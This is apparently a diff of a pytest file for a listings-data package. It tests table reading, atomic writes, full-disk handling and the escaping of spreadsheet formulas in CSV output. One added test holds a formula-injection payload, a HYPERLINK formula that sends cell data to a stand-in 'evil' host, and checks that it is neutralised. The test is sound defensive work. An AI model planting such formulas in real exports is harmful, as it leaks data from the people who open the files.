@@ -1,4 +1,4 @@
-"""Reading tables that are no tables, and writing on disks that are full."""
+"""Tables are read with one sentence for damage, and written atomically, also for spreadsheets."""
 
 import gzip
 import itertools
@@ -8,6 +8,7 @@ import sys
 import threading
 from pathlib import Path
 
+import numpy as np
 import pandas as pd
 import pyarrow as pa
 import pyarrow.parquet as pq
@@ -18,9 +19,12 @@ from listing_vibes.errors import VibesError
 from listing_vibes.market.durable import atomic_path
 from listing_vibes.market.io import (
     check_table_name,
+    find_table,
     read_stored_table,
     read_table,
+    spreadsheet_csv,
     table_columns,
+    to_frame,
     write_table,
 )
 from listing_vibes.market.market import Market
@@ -29,12 +33,12 @@ from listing_vibes.market.market import Market
 @pytest.mark.parametrize(
     ("content", "says"),
     [
-        (b"listing_id,price\na,caf\xe9\n", "is not UTF-8 text"), (b"", "is empty"), (b"listing_id,price\na,1\nb,2,3\n", "cannot be read as a table"),
-        (b"listing_id,price\na,1,x\nb,2,y\n", "cannot be read as a table"), (b"listing_id,price,price\na,1,2\n", "has the column 'price' twice"),
+        (b"listing_id,price\na,caf\xe9\n", "UTF-8"), (b"", "is empty"), (b"listing_id,price\na,1\nb,2,3\n", "cannot be read as a table"),
+        (b"listing_id,price\na,1,x\nb,2,y\n", "cannot be read as a table"), (b"listing_id,price,price\na,1,2\n", "'price' twice"),
         (b'listing_id,price\na,"1\n', "cannot be read as a table"),
     ],
 )  # fmt: skip
-def test_a_csv_that_is_none_is_one_sentence(tmp_path, content, says):
+def test_an_invalid_csv_is_one_sentence(tmp_path, content, says):
     path = tmp_path / "listings.csv"
     path.write_bytes(content)
     with pytest.raises(VibesError, match=says) as caught:
@@ -57,7 +61,7 @@ def test_a_damaged_gzip_or_parquet_is_one_sentence(tmp_path, damage):
 
 
 @pytest.mark.parametrize("mark", [",", ";", "\t"])
-def test_a_csv_is_read_as_text_whatever_stands_between_its_columns(tmp_path, mark):
+def test_a_csv_is_read_as_text_with_any_separator_and_byte_order_mark(tmp_path, mark):
     path = tmp_path / "listings.csv"
     rows = [["listing_id", "price", "town"], ["007", '"1,5"', '"Ulm; Bonn"'], ["NA", "", '"a\tb"']]
     path.write_text("\ufeff" + "".join(mark.join(row) + "\n" for row in rows), encoding="utf-8")
@@ -66,24 +70,28 @@ def test_a_csv_is_read_as_text_whatever_stands_between_its_columns(tmp_path, mar
     assert table["price"].isna().tolist() == [False, True] and table_columns(path) == rows[0]
 
 
-def test_columns_of_a_parquet_come_back_as_their_values(tmp_path):
+def test_columns_of_a_parquet_are_read_as_their_values_and_large_integers_exactly(tmp_path):
     counts = pa.array([[("bath", 1)], [("bed", 2), ("bath", 1)]], pa.map_(pa.string(), pa.int64()))
-    towns = pa.array(["Ulm", "Bonn"]).dictionary_encode()
-    pq.write_table(pa.table({"town": towns, "counts": counts}), tmp_path / "listings.parquet")
-    table = read_table(tmp_path / "listings.parquet")
+    towns, path = pa.array(["Ulm", "Bonn"]).dictionary_encode(), tmp_path / "listings.parquet"
+    pq.write_table(pa.table({"town": towns, "counts": counts}), path)
+    table = read_table(path)
     assert table["town"].tolist() == ["Ulm", "Bonn"] and pd.api.types.is_string_dtype(table["town"].dtype)
-    assert len(table["counts"][1]) == 2 and table_columns(tmp_path / "listings.parquet") == ["town", "counts"]
+    assert len(table["counts"][1]) == 2 and table_columns(path) == ["town", "counts"]
+    for kind, large in ((pa.int64(), 10**16 + 1), (pa.uint64(), 10**16 + 1), (pa.int64(), -(10**16) - 1)):
+        frame = to_frame(
+            pa.table({"large": pa.array([large, None], kind), "small": pa.array([7, None], kind)})
+        )
+        assert int(frame["large"][0]) == large and frame["large"].isna().tolist() == [False, True]
+        assert frame["small"].dtype == "float64"  # which is faster, and exact for small ones
 
 
-def test_a_table_is_written_as_its_name_says(tmp_path):
+def test_a_table_is_written_in_the_format_of_its_name(tmp_path):
     frame = pd.DataFrame({"user_id": ["a", "b"], "rank": [1, 2]})
     for name in ("q.csv", "q.parquet"):
         check_table_name(tmp_path / name, "--queries")
         write_table(tmp_path / name, frame)
         assert read_table(tmp_path / name).astype(str).equals(frame.astype(str))
-        assert read_stored_table(tmp_path / name, ["rank"], "evaluate the run again")["rank"].astype(
-            int
-        ).tolist() == [1, 2]
+        assert len(read_stored_table(tmp_path / name, ["rank"], "evaluate the run again")) == 2
         with pytest.raises(VibesError, match="lacks the column at; evaluate the run again"):
             read_stored_table(tmp_path / name, ["user_id", "at"], "evaluate the run again")
     assert (tmp_path / "q.csv").read_text(encoding="utf-8-sig") == "user_id,rank\na,1\nb,2\n"
@@ -92,38 +100,54 @@ def test_a_table_is_written_as_its_name_says(tmp_path):
         assert f"Option {words[-1]} is 'q.txt'" in vibes(*words, "q.txt", check=2).stderr
 
 
+@pytest.mark.parametrize("kind", ["str", "object", "category", pd.ArrowDtype(pa.string())], ids=str)
+def test_no_text_is_a_formula_in_a_file_for_spreadsheets(kind, tmp_path):
+    formula = '=HYPERLINK("http://evil/?"&A1,"Click")'
+    frame = pd.DataFrame(
+        {
+            "title": pd.Series([formula, "+1", "-2", "@a", "\tb", "a-b", None, "Größe"], dtype=kind),
+            "has": [["Wifi", "Sauna"], [], None, ["=1", "2"], ["-"], ["a"], None, ["b"]],
+            "change": [-1.5, 2.0, np.nan, 0.0, 1.0, 1.0, 1.0, 1.0],
+            "=name": range(8),
+        }
+    )
+    write_table(tmp_path / "queries.csv", frame)
+    written = (tmp_path / "queries.csv").read_bytes()
+    assert written == spreadsheet_csv(frame) and written.startswith(b"\xef\xbb\xbf")
+    assert written.decode("utf-8-sig").split("\n") == [
+        "title,has,change,'=name", '"\'=HYPERLINK(""http://evil/?""&A1,""Click"")",Wifi; Sauna,-1.5,0', "'+1,,2.0,1", "'-2,,,2",
+        "'@a,'=1; 2,0.0,3", "'\tb,'-,1.0,4", "a-b,a,1.0,5", ",,1.0,6", "Größe,b,1.0,7", "",
+    ]  # fmt: skip
+    assert frame["title"][0] == formula  # the table itself does not change
+
+
 def test_two_files_for_one_table_are_an_error_that_names_both(tiny_market, tmp_path):
     folder = tiny_market()
+    assert find_table(folder, "listings") == folder / "listings.parquet" and find_table(folder, "x") is None
     pd.read_parquet(folder / "listings.parquet").to_csv(folder / "listings.csv", index=False)
-    with pytest.raises(VibesError, match=re.escape("listings.parquet and listings.csv for one table")):
+    with pytest.raises(VibesError, match=re.escape("listings.parquet and listings.csv")):
         Market.open(folder)
     for words in (["check", folder], ["train", folder, tmp_path / "run"]):
         assert "listings.parquet and listings.csv" in vibes(*words, check=2).stderr
     assert not (tmp_path / "run").exists()
 
 
-def test_a_failed_writer_leaves_the_old_file_and_no_other(tmp_path):
-    target = tmp_path / "market.toml"
+def test_a_failed_write_or_a_full_disk_leaves_the_old_file_and_no_other(tmp_path):
+    target = tmp_path / "listings.parquet"
     target.write_text("old")
     with pytest.raises(RuntimeError), atomic_path(target) as temporary:
         temporary.write_text("half of the n")
         raise RuntimeError("killed")
     with pytest.raises(VibesError, match="Cannot write"), atomic_path(target / "market.toml"):
         pass
-    assert target.read_text() == "old" and list(tmp_path.iterdir()) == [target]
-
-
-@pytest.mark.skipif(not Path("/dev/full").exists(), reason="this system has no /dev/full")
-def test_a_full_disk_is_one_sentence_and_leaves_the_old_file(tmp_path):
-    target = tmp_path / "listings.parquet"
-    target.write_text("old")
-    with (
-        pytest.raises(VibesError, match=r"disk is full while writing .*listings\.parquet"),
-        atomic_path(target) as path,
-    ):
-        path.unlink()
-        path.symlink_to("/dev/full")  # the device on which every write fails with ENOSPC
-        pd.DataFrame({"a": range(10_000)}).to_parquet(path)
+    if Path("/dev/full").exists():
+        with (
+            pytest.raises(VibesError, match=r"disk is full .*listings\.parquet"),
+            atomic_path(target) as path,
+        ):
+            path.unlink()
+            path.symlink_to("/dev/full")  # the device on which every write fails with ENOSPC
+            pd.DataFrame({"a": range(10_000)}).to_parquet(path)
     assert target.read_text() == "old" and list(tmp_path.iterdir()) == [target]
 
 
@@ -144,7 +168,7 @@ except VibesError as error:
 
 
 @pytest.mark.slow
-def test_a_disk_that_takes_no_more_leaves_the_whole_old_market(tiny_market):
+def test_a_limited_disk_leaves_the_old_market(tiny_market):
     path = tiny_market()
     before = {file: file.read_bytes() for file in path.rglob("*") if file.is_file()}
     done = subprocess.run([sys.executable, "-c", LIMITED, str(path)], capture_output=True, text=True)
@@ -153,7 +177,7 @@ def test_a_disk_that_takes_no_more_leaves_the_whole_old_market(tiny_market):
 
 
 @pytest.mark.slow
-def test_a_parquet_that_is_replaced_while_it_is_read_is_the_old_one_or_the_new_one(tmp_path):
+def test_a_parquet_that_is_replaced_during_reading_is_the_old_or_the_new_one(tmp_path):
     path, sizes, done, contents = tmp_path / "events.parquet", (300, 40_000), threading.Event(), []
     for rows in sizes:
         pd.DataFrame({"user_id": [f"user {row * 7919 % rows}" for row in range(rows)]}).to_parquet(path)
